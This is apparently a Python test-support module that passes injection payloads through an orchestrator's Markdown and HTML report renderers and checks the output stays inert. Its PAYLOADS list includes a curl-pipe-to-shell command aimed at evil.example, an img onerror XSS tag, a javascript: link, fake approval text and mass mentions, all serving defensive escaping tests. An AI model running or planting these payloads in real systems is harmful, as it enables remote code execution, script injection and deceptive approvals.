"""Every renderer that puts repository- or PR-controlled text into Markdown or HTML, fed one
text in every place it can reach, and a check that the text stayed text.

The check renders the Markdown as GitHub would (CommonMark with tables and raw HTML allowed)
and compares the HTML's tags (counted) with the ones a harmless name of the same shape gives:
a payload that opened or closed an element (`</details>`, `<img>`, a link) adds one. Text
outside code is also searched for live mentions (`@everyone`, `@org/team`) and `javascript:`
links. Shared by the payload-list tests and the Hypothesis fuzzing.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Callable
from datetime import UTC, datetime
from html.parser import HTMLParser

from markdown_it import MarkdownIt

from orchestrator.drift.model import DriftReport, StackDrift, UnmanagedScan
from orchestrator.engines.base import Diagnostic, PolicyViolation
from orchestrator.models import GitDrift, Plan, PlannedStack
from orchestrator.redact import Redactor
from orchestrator.report.comment import render_comment
from orchestrator.report.drift import issue_body, render_html, render_markdown
from orchestrator.report.review import ReviewSectionView, ReviewStackView, render_review_section
from orchestrator.report.untrusted import render_untrusted
from tests.drift_report.scenarios import BUCKET, stack_finding, unmanaged
from tests.report.factory import add, change, model, outcome, result, update
from tests.security.planted import SECURE_VALUE

PAYLOADS = (
    "</details>",
    "</summary></details><details open><summary>approved",
    '<img src="https://evil.example/x.png" onerror="alert(1)">',
    "[click me](javascript:alert(1))",
    "![tracker](https://evil.example/t.png)",
    "@everyone",
    "@acme/platform-admins please approve",
    "cc @octocat",
    "`` ` `` ```` ``` ````",
    "$(curl -s https://evil.example | sh)",
    "<!-- hidden",
    "x | y | z",
    "**LGTM** ✅ Approved by @maintainer",
    "line one\n\n# heading\n---\n> quote",
    "&lt;img src=x&gt; &#64;everyone",
)
BENIGN = "harmless"

_MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
# A mention as GitHub and GitLab read one: `@` not inside a word, then a name.
_LIVE_MENTION = re.compile(r"(?<![\w@])@[A-Za-z0-9][\w-]*")


class _Html(HTMLParser):
    def __init__(self, *, mentions_matter: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.mentions_matter = mentions_matter
        self.tags: list[str] = []
        self.problems: list[str] = []
        self._code = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self._code += tag in ("code", "pre")
        for name, value in attrs:
            if name in ("href", "src") and (value or "").strip().lower().startswith(("javascript:", "data:")):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...> event handler")

    def handle_endtag(self, tag: str) -> None:
        self.tags.append("/" + tag)
        self._code -= tag in ("code", "pre")

    def handle_comment(self, data: str) -> None:
        self.tags.append("<!-- -->")  # a comment the payload opened would hide the rest

    def handle_data(self, data: str) -> None:
        if self._code <= 0 and self.mentions_matter:
            self.problems.extend(f"live mention {m!r}" for m in _LIVE_MENTION.findall(data))


def parse_html(html: str, *, mentions_matter: bool = True) -> _Html:
    parser = _Html(mentions_matter=mentions_matter)
    parser.feed(html)
    parser.close()
    return parser


def markdown_to_html(text: str) -> str:
    return _MARKDOWN.render(text)


def problems(rendered: str, benign: str, *, html: bool) -> list[str]:
    """What `rendered` (the payload's rendering) lets through, compared with `benign`'s."""
    # Mentions matter where a Git host renders the text (Markdown), not in a standalone page.
    ours = parse_html(rendered if html else markdown_to_html(rendered), mentions_matter=not html)
    reference = parse_html(benign if html else markdown_to_html(benign), mentions_matter=not html)
    found = list(ours.problems)
    # Counted, not in order: renderers sort by name, so a payload may move a row. Only what the
    # payload adds counts: an empty name may leave `** **` unbolded, which lets nothing in.
    added = Counter(ours.tags) - Counter(reference.tags)
    if added:
        found.append(f"the markup changed: the payload added {dict(added)}")
    return found


# --------------------------------------------------------------------------- renderers

T = datetime(2026, 3, 2, 6, 0, tzinfo=UTC)
# What a flow's redactor knows: the `secure:` value planted in the tests (tests/security/planted.py).
FLOW_REDACTOR = Redactor([SECURE_VALUE])
# The renderers given the flow's redactor; the others only see credential-looking text.
KNOWS_SECURE_VALUES = ("comment", "comment over budget", "deploy comment", "drift report markdown",
                       "drift report html", "review section")


def _comment_model(text: str, *, max_chars: int = 65536, kind: str = "Preview") -> object:
    project = f"p-{text}"
    failed = result(project, "qa", status="failed", error=f"error: {text}", diagnostics=[
        Diagnostic(severity="error", message=f"diagnostic {text}", urn=f"urn:pulumi:qa::{project}::t::{text}")])
    changed = result(
        "app", "qa",
        [change("app", "qa", f"aws:s3/bucket:{text}", text, "update", update(f"tags.{text}", text, f"new {text}"),
                add("policy", {text: [text, 1]}))],
        violations=[PolicyViolation(policy_pack=f"pack {text}", policy=text, enforcement="mandatory",
                                    message=f"violation {text}", urn=f"urn:pulumi:qa::app::t::{text}")],
        diagnostics=[Diagnostic(severity="warning", message=f"warning {text}")],
    )
    skipped = result("data", "qa", status="skipped", error=f"skipped: depends on {project}/qa, which failed")
    return model([outcome(failed), outcome(changed, wave=1), outcome(skipped, wave=2)], environments=("qa",),
                 max_chars=max_chars, kind=kind, redactor=FLOW_REDACTOR)  # type: ignore[arg-type]


def _drift(text: str) -> DriftReport:
    from orchestrator.engines.base import PropertyDiff

    findings = (
        stack_finding("dev", "app", "drifted", BUCKET, text, "new",
                      diffs=(PropertyDiff(f"tags.{text}", "update", text, f"now {text}"),)),
        stack_finding("dev", "app", "deleted", BUCKET, f"gone {text}", "ongoing"),
        stack_finding("dev", "app", "error", BUCKET, "r", "new", message=f"failed {text}"),
        unmanaged("dev", BUCKET, text, f"arn:aws:s3:::{text}", "new"),
    )
    return DriftReport(
        generated_at=T, run_id=f"run {text}", environments=("dev",),
        stacks=(StackDrift("app/dev", "app", "dev", "error", error=f"boom {text}"),
                StackDrift(f"{text}/dev", text, "dev", "drifted", resources_checked=1, findings=1)),
        findings=findings, scans=(UnmanagedScan("dev", "us-east-1", scanned=1, excluded=0),),
        # Git drift: a stack behind its branch, the branch name and the changed paths from the repository.
        git_drift=(GitDrift(stack=f"{text}/dev", environment="dev", operation="update", applied="a" * 40,
                            flow="deploy", standing="behind", commits_behind=1, branch=text, head="b" * 40,
                            reasons=(f"at aaaaaaaaaaaa; since then: changed stacks/{text}/x",)),),
    )


def _untrusted(text: str) -> str:
    stacks = tuple(
        PlannedStack(project=name, environment="dev", stack="dev", directory=f"stacks/{name}", operation="preview",
                     wave=0, depends_on=(), reasons=(f"stacks/{name}/x changed",))
        for name in (text, f"second {text}")
    )
    plan = Plan(event="pr", head="3f2a9c1d8e7b6a5f4e3d2c1b0a9f8e7d6c5b4a39", base="main", branch="develop",
                environments=("dev",), changed_files=(), stacks=stacks)
    return render_untrusted(plan, f"author {text} is not trusted", "/orchestrator preview")


def _review(text: str) -> str:
    """The review environment section: a failed stack (its error) beside one that is up (its
    outputs: the payload as a name and a value), and a note. A URL holding the payload is a
    link or a code span depending on its characters: tests/review/test_pieces.py checks those."""
    stacks = (ReviewStackView("app/pr-7", "failed", error=f"Traceback\nerror: {text}"),
              ReviewStackView("data/pr-7", "succeeded",
                              {text: text, "url": "https://pr-7.example/", "n": {text: [text, 1]}}))
    views = [ReviewSectionView(environment="dev", pr=7, state="failed", head="a" * 40, ttl="72h", stacks=stacks),
             ReviewSectionView(environment="qa", pr=7, state="destroy_failed", note=f"destroy failed: {text}")]
    return render_review_section(views, FLOW_REDACTOR)


# name -> (renders HTML?, render(text) -> document)
RENDERERS: dict[str, tuple[bool, Callable[[str], str]]] = {
    "comment": (False, lambda t: render_comment(_comment_model(t)).markdown),  # type: ignore[arg-type]
    "comment over budget": (False, lambda t: render_comment(_comment_model(t, max_chars=300)).markdown),  # type: ignore[arg-type]
    "deploy comment": (False, lambda t: render_comment(_comment_model(t, kind="Deployed")).markdown),  # type: ignore[arg-type]
    "untrusted comment": (False, _untrusted),
    "review section": (False, _review),
    "drift report markdown": (False, lambda t: render_markdown(_drift(t), only_changes=False, redactor=FLOW_REDACTOR)),
    "drift issue body": (False, lambda t: issue_body(_drift(t), "dev", _drift(t).findings, ())),
    "drift report html": (True, lambda t: render_html(_drift(t), redactor=FLOW_REDACTOR)),
}
